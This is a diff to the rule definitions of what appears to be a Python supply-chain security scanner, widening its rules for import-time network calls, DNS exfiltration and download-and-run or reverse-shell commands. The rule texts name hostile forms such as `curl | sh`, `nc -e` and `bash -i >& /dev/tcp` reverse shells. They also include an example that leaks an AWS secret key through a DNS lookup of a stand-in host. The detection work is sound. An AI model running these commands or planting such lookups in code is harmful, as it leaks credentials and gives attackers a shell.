@@ -15,7 +15,9 @@ RULES = [
               "(runs whenever a function is decorated), and any network call at all in setup.py,\n"
               "conftest.py, __init__.py, sitecustomize.py, usercustomize.py and `import` lines of .pth\n"
               "files (helpers there that only forward their caller's URL, or talk to localhost, are not\n"
-              "flagged)."),
+              "flagged). Building a client sends nothing and is not flagged (requests.Session(),\n"
+              "httpx.Client(), urllib3.PoolManager(), http.client connections, xmlrpc ServerProxy,\n"
+              "urllib.request.Request, websocket.WebSocketApp); their first request is."),
         why=("Import-time code runs on every developer machine, CI runner and production host that\n"
              "merely imports the package, or runs `pip install`/`pytest`: no one calls it, no one\n"
              "reviews when it runs. It is the classic place for a beacon or a data grab."),
@@ -66,7 +68,11 @@ RULES = [
         code="BDL404", name="dns-exfiltration", category="exfiltration", severity=BLOCK, confidence="high",
         cwe=("CWE-200", "CWE-506"),
         summary="Data interpolated into a host name that is resolved (DNS exfiltration)",
-        what="Flags host names built from variable data (secrets, environment, file contents) that are passed to DNS resolution or a connection.",
+        what=("Flags host names built from secrets, the environment, credential files or who runs the code\n"
+              "(getpass.getuser(), os.getlogin(), socket.gethostname(), platform.node(), os.getcwd()), also\n"
+              "encoded (hex, base32/64) and chunked, passed to socket.gethostbyname/getaddrinfo, dnspython,\n"
+              "aiodns or a resolver program (nslookup, dig, host) run from Python. The machine's own name\n"
+              "alone or under a local suffix (.local, .lan, .internal) is a lookup of itself, not a finding."),
         why="A DNS lookup of <secret>.attacker.example leaves the network through every firewall that allows DNS: the attacker's name server logs the secret, no HTTP request needed.",
         example='socket.gethostbyname(f"{os.environ["AWS_SECRET_ACCESS_KEY"]}.probe.example")',
         use_instead="Resolve only fixed, configured host names.",
@@ -79,7 +85,9 @@ RULES = [
         summary="Shell command that downloads and executes, opens a reverse shell or sends data out",
         what=("Flags curl/wget/nc/socat and /dev/tcp in commands run from code or scripts: output piped\n"
               "into a shell, download-then-chmod-then-run, reverse shells (nc -e, bash -i >& /dev/tcp),\n"
-              "install scripts that fetch and run remote code."),
+              "install scripts that fetch and run remote code. In Python code itself: reverse and bind\n"
+              "shells, os.dup2 of a socket onto stdin/stdout/stderr or a process started with a socket as\n"
+              "a standard stream (through aliases, helpers, lambdas, accepted connections)."),
         why=("`curl https://x | sh` runs whatever that server returns today, with the privileges of the\n"
              "build or the developer; a reverse shell hands an interactive session on the machine to\n"
              "whoever listens. Neither leaves anything to review in the repository."),
